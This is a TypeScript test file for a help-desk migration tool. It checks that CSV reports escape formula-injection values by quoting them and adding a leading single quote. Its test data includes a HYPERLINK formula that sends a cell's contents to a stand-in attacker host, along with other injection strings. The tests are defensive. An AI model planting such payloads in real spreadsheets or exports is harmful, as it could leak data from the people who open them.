// Issue 14 item 8, CSV formula injection: a reason or id taken from the help desk (which any end user can
// shape) must never reach a spreadsheet as a formula. OWASP's rule: a cell beginning with = + - @, a tab or a
// carriage return gets a leading single quote and is quoted. Every CSV Ferry writes (the console's download
// and `ferry report`'s files) goes through csvField.
import { mkdtemp, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { reportCsv } from '../../src/app/console/reports.js';
import { getRunStatus } from '../../src/app/runs.js';
import { csvField, csvRecord, parseCsv } from '../../src/report/csv.js';
import { writeReports } from '../../src/report/write-reports.js';
import { createTestDatabase, type TestDatabase } from '../helpers/db.js';

const ATTACK = '=HYPERLINK("http://evil.test/?"&A1,"Click")';

describe('CSV formula injection', () => {
  it.each([
    ['=1+1', `"'=1+1"`],
    ['+SUM(A1)', `"'+SUM(A1)"`],
    ['-2+3', `"'-2+3"`],
    ['@SUM(A1)', `"'@SUM(A1)"`],
    ['\t=1', `"'\t=1"`],
    ['\r=1', `"'\r=1"`],
    ['  =1', `"'  =1"`],
    ['＝1+1', `"'＝1+1"`],
    [ATTACK, `"'=HYPERLINK(""http://evil.test/?""&A1,""Click"")"`],
  ])('when a cell is %j, then it is written as text: %j', (value, expected) => {
    expect(csvField(value)).toBe(expected);
  });

  it.each([
    ['an id', '12345', '12345'],
    ['a sentence with a dash inside', 'deleted - in source', 'deleted - in source'],
    ['an e-mail address', 'a@b.test', 'a@b.test'],
  ])('when a cell is %s, then it is written unchanged', (_what, value, expected) => {
    expect(csvField(value)).toBe(expected);
  });

  it('when a negative number is passed as a number, then it stays a number', () => {
    expect(csvField(-3)).toBe('-3');
  });

  it('when a hostile reason follows a comma in its own cell, then the whole field stays one quoted text cell', () => {
    const line = csvRecord(['tickets', '1', '', 'failed', ATTACK]);
    expect(parseCsv(line)[0]).toEqual(['tickets', '1', '', 'failed', `'${ATTACK}`]);
  });
});

describe('CSV formula injection in the reports a run writes', () => {
  let db: TestDatabase;
  let dir: string;
  let runId: string;
  beforeAll(async () => {
    db = await createTestDatabase({ migrated: true });
    dir = await mkdtemp(path.join(tmpdir(), 'ferry-csv-injection-'));
    const [ws] = await db
      .knex('workspaces')
      .insert({ intercom_workspace_id: 'w-csv' })
      .returning<{ id: string }[]>('id');
    const [m] = await db
      .knex('migrations')
      .insert({ workspace_id: ws!.id, name: 'acme', source_platform: 'zendesk', status: 'ready' })
      .returning<{ id: string }[]>('id');
    const [run] = await db
      .knex('runs')
      .insert({ migration_id: m!.id, kind: 'full', status: 'running', stage: 'tickets', plan: '{}' })
      .returning<{ id: string }[]>('id');
    runId = run!.id;
    await db.knex('ledger').insert([
      {
        migration_id: m!.id,
        last_run_id: runId,
        entity: 'tickets',
        source_id: '@cmd',
        status: 'failed',
        reason: ATTACK,
      },
      {
        migration_id: m!.id,
        last_run_id: runId,
        entity: 'tickets',
        source_id: '7',
        status: 'skipped',
        reason: '+1 deleted',
      },
    ]);
  });
  afterAll(async () => {
    await db?.drop();
    await rm(dir, { recursive: true, force: true });
  });

  it('when a failed record’s reason and id are formulas, then `ferry report`’s CSVs hold them as quoted text', async () => {
    await writeReports(db.knex, runId, dir);
    const failed = await readFile(path.join(dir, 'failed.csv'), 'utf8');
    expect(failed).toContain(`tickets,"'@cmd",,failed,"'=HYPERLINK(`);
    const skipped = parseCsv(await readFile(path.join(dir, 'skipped.csv'), 'utf8'));
    expect(skipped[1]).toEqual(['tickets', '7', '', 'skipped', "'+1 deleted"]);
    for (const line of failed.split('\r\n').slice(1)) expect(line).not.toMatch(/(^|,)[=+\-@]/);
  });

  it('when the console serves the failed records’ CSV, then the formulas arrive as quoted text too', async () => {
    let text = '';
    for await (const chunk of reportCsv(db.knex, await getRunStatus(db.knex, runId), 'failed')) text += chunk;
    expect(parseCsv(text)[1]).toEqual(['tickets', "'@cmd", '', 'failed', `'${ATTACK}`]);
  });
});
